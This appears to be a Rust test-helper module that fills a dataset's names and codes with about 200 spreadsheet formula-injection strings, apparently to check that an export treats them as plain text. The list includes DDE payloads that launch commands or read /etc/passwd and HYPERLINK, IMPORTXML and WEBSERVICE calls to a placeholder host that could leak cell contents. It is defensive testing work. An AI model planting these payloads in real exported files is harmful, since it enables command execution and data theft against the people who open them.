//! Texts that would be formulas, links or commands if a sheet took them for more than texts.

use std::sync::Arc;

use skulder_season::Season;
use skulder_season::person::{People, Person};

/// A season in which everybody and everything is called by a payload.
pub(crate) fn in_place_of_names((season, people): &(Season, People)) -> (Season, People) {
    let mut payloads = payloads().into_iter().cycle();
    let mut payload = || payloads.next().expect("a cycle has no end");
    let mut contents = season.contents();
    contents.head.name = payload();
    for department in &mut contents.departments {
        let department = Arc::make_mut(department);
        (department.name, department.code) = (payload(), Some(payload()));
    }
    for module in &mut contents.modules {
        Arc::make_mut(module).name = payload();
    }
    for follow_up in &mut contents.follow_ups {
        Arc::make_mut(follow_up).category = payload();
    }
    let named =
        people.keys().map(|id| (id.clone(), Person { name: payload(), employee_no: Some(payload()) }));
    let people = named.collect();
    (Season::restore("=1+1".into(), contents).expect("it is valid"), people)
}

/// Two hundred of them.
fn payloads() -> Vec<String> {
    const BEFORE: [&str; 14] =
        ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u{a0}=", "'=", "\"=", "\";=", ",=", "＝"];
    const COMMANDS: [&str; 15] = [
        "1+1",
        "HYPERLINK(\"http://example.invalid/?\"&A1,\"Klikk\")",
        "SUM(A1:A9)",
        "cmd|' /C calc'!A0",
        "DDE(\"soffice\";\"/etc/passwd\";\"A1\")",
        "IMPORTXML(\"http://example.invalid\",\"//a\")",
        "WEBSERVICE(\"http://example.invalid\")",
        "'file:///etc/passwd'#$A.A1",
        "INDIRECT(\"Avdelinger!A2\")",
        "A1",
        "-2+3+cmd|' /C calc'!D2",
        "SUM(1;\"a\";\"b\"\"c\")",
        "{1;2}",
        "\u{1}1",
        "Ida Østbø",
    ];
    let mut payloads: Vec<String> =
        BEFORE.iter().flat_map(|before| COMMANDS.map(|command| format!("{before}{command}"))).collect();
    payloads.truncate(195);
    for other in
        ["<r><t>a</t></r>", "_x003D_1+1", "http://example.invalid", "mailto:a@example.invalid", "{=1+1}"]
    {
        payloads.push(other.to_owned());
    }
    payloads
}
